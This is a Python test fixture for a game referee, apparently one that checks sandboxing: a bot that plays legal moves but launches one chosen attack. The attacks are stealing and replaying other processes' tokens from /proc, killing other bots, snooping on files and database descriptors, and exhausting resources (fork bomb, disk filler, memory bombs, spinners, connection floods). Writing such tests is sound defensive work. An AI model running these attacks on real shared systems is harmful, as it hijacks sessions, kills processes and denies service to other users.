"""A hostile bot: plays legal moves, and on its first match start tries one attack on the
referee, its opponent or the machine, then reports what it achieved on stderr as one line
``HOSTILE <attack> key=value ...`` (tests read it from the bot's log or output tail).

``python hostile.py ATTACK [ARGUMENTS...]``; attacks:

- ``token-thief``: read other processes' ``AEGIS_TOKEN`` and endpoint from /proc, and say
  hello with each from a new connection (a session hijack if welcomed);
- ``killer``: find other bots in /proc and SIGSTOP then SIGKILL them;
- ``snoop PATH...``: open each path (the store, config, records, logs, another bot's files),
  and look for open SQLite files in other processes' /proc/PID/fd;
- ``leftover TAG``: leave a double-forked ``setsid env -i sleep TAG`` behind;
- ``disk-filler``: write into /tmp and into its working directory until refused;
- ``fork-bomb``: fork sleeping children until refused;
- ``memory-hog MB``: allocate and touch MB MiB of memory;
- ``memory-bomb MB MOMENT``: write MB MiB into an anonymous mapping (no allocator to fail:
  only the kernel's limit stops it) at a MOMENT: ``hello`` (before saying hello), ``ready``
  (just after its ready), ``idle`` (just after its first act, while the opponent thinks and
  the referee may freeze it), ``decide`` (in the middle of its first decision) or
  ``helper`` (a child process it starts in its second decision writes, and the bot, its
  helper gone, falls silent);
- ``spinner``: start child processes that spin forever;
- ``widen``: widen its CPU affinity to every CPU of the machine;
- ``connection-flood N``: open N plain connections to its endpoint (from several processes,
  each within its open-files limit) and keep them open: every one costs the referee a file
  descriptor;
- ``remember``: report how many matches this process has seen and whether a file written
  in /tmp or its folder by an earlier match is still there.

``python hostile.py token-racer SECONDS ENDPOINT [FOLDER]`` is no bot but any process of the
same user: for SECONDS it watches /proc for bots being started by the referee of ENDPOINT,
and says hello with each new token it sees before the bot it belongs to can, keeping every
connection a welcome came on (and making FOLDER/TOKEN once answered); after each answer it
reports all so far (``HOSTILE token-racer tokens=N answers=... hijacked=N reasons=...``).
"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Sequence
from pathlib import Path

import msgpack
import zmq

from protocol.sdk import Action, Bot, Decision, MatchInfo, run


def report(attack: str, **fields: object) -> None:
    """One line the tests parse."""
    text = " ".join(f"{key}={value}" for key, value in fields.items())
    print(f"HOSTILE {attack} {text}", file=sys.stderr, flush=True)


def foreign_processes(referee: str | None = None) -> dict[int, dict[str, str]]:
    """Processes whose environment this bot can read and that hold another bot's token, of
    the referee whose folder holds ``referee`` (default: this bot's endpoint)."""
    own = os.environ.get("AEGIS_TOKEN")
    referee = referee or os.environ.get("AEGIS_ENDPOINT", "")
    found: dict[int, dict[str, str]] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            raw = Path(f"/proc/{entry}/environ").read_bytes()
        except OSError:
            continue
        variables = dict(
            item.split("=", 1) for item in raw.decode("utf-8", "replace").split("\0") if "=" in item
        )
        token = variables.get("AEGIS_TOKEN")
        # Only the bots of this bot's own referee: a test must not harm other tests' bots.
        same_referee = os.path.dirname(variables.get("AEGIS_ENDPOINT", "")) == os.path.dirname(
            referee
        )
        if token and token != own and same_referee:
            found[int(entry)] = variables
    return found


def visible_processes() -> int:
    """How many processes this bot can see in /proc."""
    return sum(1 for entry in os.listdir("/proc") if entry.isdigit())


def hello_as(
    context: zmq.Context[zmq.Socket[bytes]], token: str, endpoint: str, name: str
) -> tuple[str, str, zmq.Socket[bytes]]:
    """Connect to ``endpoint`` and say hello with ``token``: the answer's type (``none``
    without one within 2 s, ``error:N`` if the connection fails), a reject's reason, and the
    socket."""
    socket = context.socket(zmq.DEALER)
    socket.setsockopt(zmq.LINGER, 0)
    try:
        socket.connect(endpoint)
        hello = {"version": "1.0", "id": 1, "type": "hello", "versions": ["1.0"]}
        socket.send(msgpack.packb({**hello, "name": name, "token": token}))
        if socket.poll(2000):
            answer = msgpack.unpackb(socket.recv())
            return str(answer.get("type")), str(answer.get("reason", "")), socket
        return "none", "", socket
    except zmq.ZMQError as error:
        return f"error:{error.errno}", "", socket


def steal_tokens() -> None:
    victims = foreign_processes()
    tokens = {(env["AEGIS_TOKEN"], env.get("AEGIS_ENDPOINT", "")) for env in victims.values()}
    answers = []
    context = zmq.Context()
    for token, endpoint in sorted(tokens):
        answer, _, socket = hello_as(context, token, endpoint, "thief")
        answers.append(answer)
        socket.close(0)
    context.term()
    welcomed = answers.count("welcome")
    report(
        "token-thief",
        visible=visible_processes(),
        tokens=len(tokens),
        answers=",".join(answers) or "-",
        hijacked=welcomed,
    )


def race_tokens(seconds: float, referee: str, told: str | None = None) -> None:
    """Say hello with every token that shows up in a bot of the referee whose socket folder
    holds the endpoint ``referee``, as soon as it does; with ``told``, a folder, make a file
    named after each token there once its hello is answered (a test's bots wait for it)."""
    context = zmq.Context()
    tried: set[str] = set()
    answers = []
    reasons = []
    held = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for env in foreign_processes(referee).values():
            token, endpoint = env["AEGIS_TOKEN"], env.get("AEGIS_ENDPOINT", "")
            if token in tried or not endpoint:
                continue
            tried.add(token)
            answer, reason, socket = hello_as(context, token, endpoint, "racer")
            answers.append(answer)
            reasons.append(reason.replace(" ", "_") or "-")
            held.append(socket)  # a hijacked session lives as long as its connection
            report(
                "token-racer",
                tokens=len(tried),
                answers=",".join(answers),
                hijacked=answers.count("welcome"),
                reasons="|".join(reasons),
            )
            if told is not None:
                Path(told, token).touch()
        time.sleep(0.002)
    for socket in held:
        socket.close(0)
    context.term()


def kill_opponents() -> None:
    victims = foreign_processes()
    signalled = 0
    for pid in victims:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(pid, sig)
                signalled += 1
    # Blind signals too: every pid this bot can see but its own.
    blind = 0  # pids it could signal at all (signal 0 harms nothing)
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) not in (os.getpid(), os.getppid(), 1):
            with contextlib.suppress(OSError):
                os.kill(int(entry), 0)
                blind += 1
    report("killer", found=len(victims), signalled=signalled, reachable=blind)


def snoop(paths: Sequence[str]) -> None:
    results = []
    for path in paths:
        try:
            if os.path.isdir(path):
                os.listdir(path)
            else:
                with open(path, "rb") as stream:
                    stream.read(16)
            results.append("read")
        except FileNotFoundError:
            results.append("missing")
        except OSError:
            results.append("denied")
    stores = 0
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        with contextlib.suppress(OSError):
            for descriptor in os.listdir(f"/proc/{entry}/fd"):
                with contextlib.suppress(OSError):
                    target = os.readlink(f"/proc/{entry}/fd/{descriptor}")
                    if target.endswith(".sqlite") or target.endswith(".db"):
                        with open(f"/proc/{entry}/fd/{descriptor}", "rb"):
                            stores += 1
    report("snoop", results=",".join(results), stores_opened=stores)


def leave_leftover(tag: str) -> None:
    subprocess.Popen(
        ["setsid", "env", "-i", "sh", "-c", f"sleep {tag} & exit 0"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    ).wait()
    report("leftover", started=tag)


def fill_disk() -> None:
    # A file name of the test's own (HOSTILE_FILLER): test runs side by side share /tmp.
    name = os.environ.get("HOSTILE_FILLER", "hostile-filler.bin")
    written = {}
    for folder in ("/tmp", os.getcwd()):
        total = 0
        try:
            with open(os.path.join(folder, name), "wb") as stream:
                chunk = b"x" * (1 << 20)
                while total < 5 << 30:
                    stream.write(chunk)
                    stream.flush()
                    total += len(chunk)
        except OSError:
            pass
        written[folder] = total >> 20
    report("disk-filler", tmp_mb=written["/tmp"], cwd_mb=written[os.getcwd()], cwd=os.getcwd())


def fork_bomb() -> None:
    children = 0
    error = "none"
    try:
        while children < 5000:
            pid = os.fork()
            if pid == 0:
                time.sleep(120)
                os._exit(0)
            children += 1
    except OSError as failure:
        error = failure.strerror or str(failure)
    report("fork-bomb", forked=children, error=error.replace(" ", "_"))


def hog_memory(megabytes: int) -> None:
    report("memory-hog", asking=megabytes)
    chunks = []
    try:
        for _ in range(megabytes // 16):
            chunks.append(b"x" * (16 << 20))
    except MemoryError:
        # As a program without the SDK's safety net dies when an allocation fails.
        print("MemoryError: out of memory", file=sys.stderr, flush=True)
        os._exit(1)
    report("memory-hog", allocated=len(chunks) * 16)


def fill_mapping(megabytes: int, moment: str) -> None:
    import mmap

    report("memory-bomb", mapping=megabytes, moment=moment)
    mapping = mmap.mmap(-1, megabytes << 20)
    chunk = b"x" * (1 << 20)
    for offset in range(0, megabytes << 20, 1 << 20):
        mapping[offset : offset + (1 << 20)] = chunk
    report("memory-bomb", written=megabytes, moment=moment)


def fill_mapping_soon(megabytes: int, moment: str) -> threading.Thread:
    """On a thread, a moment from now: after the message being answered has gone."""
    filler = threading.Timer(0.05, fill_mapping, (megabytes, moment))
    filler.start()
    return filler


def spin(count: int = 4) -> None:
    for _ in range(count):
        subprocess.Popen(
            [sys.executable, "-c", "while True: pass"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            # A session each: the scheduler shares a CPU fairly between sessions (autogroups),
            # so four spinners in four sessions take four shares.
            start_new_session=True,
        )
    report("spinner", started=count)


def widen() -> None:
    before = sorted(os.sched_getaffinity(0))
    error = "none"
    try:
        os.sched_setaffinity(0, range(os.cpu_count() or 1))
    except OSError as failure:
        error = failure.strerror or str(failure)
    after = sorted(os.sched_getaffinity(0))
    report(
        "widen",
        before=",".join(map(str, before)),
        after=",".join(map(str, after)),
        error=error.replace(" ", "_"),
    )


def flood_connections(count: int) -> None:
    import socket

    path = os.environ["AEGIS_ENDPOINT"].removeprefix("ipc://")
    per_process = 200
    children = []
    for start in range(0, count, per_process):
        pid = os.fork()
        if pid == 0:
            held = []
            error = "none"
            for _ in range(min(per_process, count - start)):
                try:
                    connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    connection.connect(path)
                    held.append(connection)
                except OSError as failure:
                    error = (failure.strerror or str(failure)).replace(" ", "_")
                    break
            report("connection-flood-child", connected=len(held), error=error)
            time.sleep(120)  # hold them until the match's end kills this process
            os._exit(0)
        children.append(pid)
    time.sleep(1.0)  # let the referee accept them
    report("connection-flood", processes=len(children), asked=count)


class Hostile(Bot):
    """Attacks once, at its first match start, then plays the first legal action."""

    name = "hostile"

    def __init__(self, attack: str, arguments: Sequence[str]) -> None:
        self.attack = attack
        self.arguments = list(arguments)
        self.matches = 0
        self.decisions = 0
        self.filler: threading.Thread | None = None

    def on_match_start(self, match: MatchInfo) -> None:
        self.matches += 1
        if self.attack == "memory-bomb":
            if self.arguments[1] == "ready" and self.matches == 1:
                self.filler = fill_mapping_soon(int(self.arguments[0]), "ready")
            return
        if self.attack == "remember":
            # A name of the test's own (HOSTILE_MARKER), so that test runs side by side on
            # one machine do not see each other's markers in the shared /tmp.
            name = os.environ.get("HOSTILE_MARKER", "hostile-marker")
            markers = [Path("/tmp") / name, Path.cwd() / name]
            seen = [marker.exists() for marker in markers]
            for marker in markers:
                with contextlib.suppress(OSError):
                    marker.write_text("I was here")
            report(
                "remember",
                matches=self.matches,
                tmp_marker=int(seen[0]),
                cwd_marker=int(seen[1]),
            )
            return
        if self.matches > 1:
            return
        attacks = {
            "token-thief": steal_tokens,
            "killer": kill_opponents,
            "snoop": lambda: snoop(self.arguments),
            "leftover": lambda: leave_leftover(self.arguments[0]),
            "disk-filler": fill_disk,
            "fork-bomb": fork_bomb,
            "memory-hog": lambda: hog_memory(int(self.arguments[0])),
            "spinner": spin,
            "widen": widen,
            "connection-flood": lambda: flood_connections(int(self.arguments[0])),
        }
        attacks[self.attack]()

    def decide(self, view: Decision, legal: Sequence[Action]) -> Action:
        """The first legal action."""
        if self.filler is not None:
            self.filler.join()  # a short match must not end before the kernel steps in
        self.decisions += 1
        if self.attack == "memory-bomb" and self.decisions <= 2:
            megabytes, moment = int(self.arguments[0]), self.arguments[1]
            if self.decisions == 2:
                if moment == "helper":  # past the first decision's warm-up time
                    subprocess.run([sys.executable, __file__, "fill", str(megabytes)], check=False)
                    time.sleep(120)
            elif moment == "decide":
                fill_mapping(megabytes, moment)
            elif moment == "idle":
                self.filler = fill_mapping_soon(megabytes, moment)
        return legal[0]


if __name__ == "__main__":
    if sys.argv[1:2] == ["fill"]:
        fill_mapping(int(sys.argv[2]), "helper")
    elif sys.argv[1:2] == ["token-racer"]:
        race_tokens(float(sys.argv[2]), sys.argv[3], *sys.argv[4:5])
    else:
        if sys.argv[1:2] == ["memory-bomb"] and sys.argv[3:4] == ["hello"]:
            fill_mapping(int(sys.argv[2]), "hello")
        run(Hostile(sys.argv[1], sys.argv[2:]), argv=[])
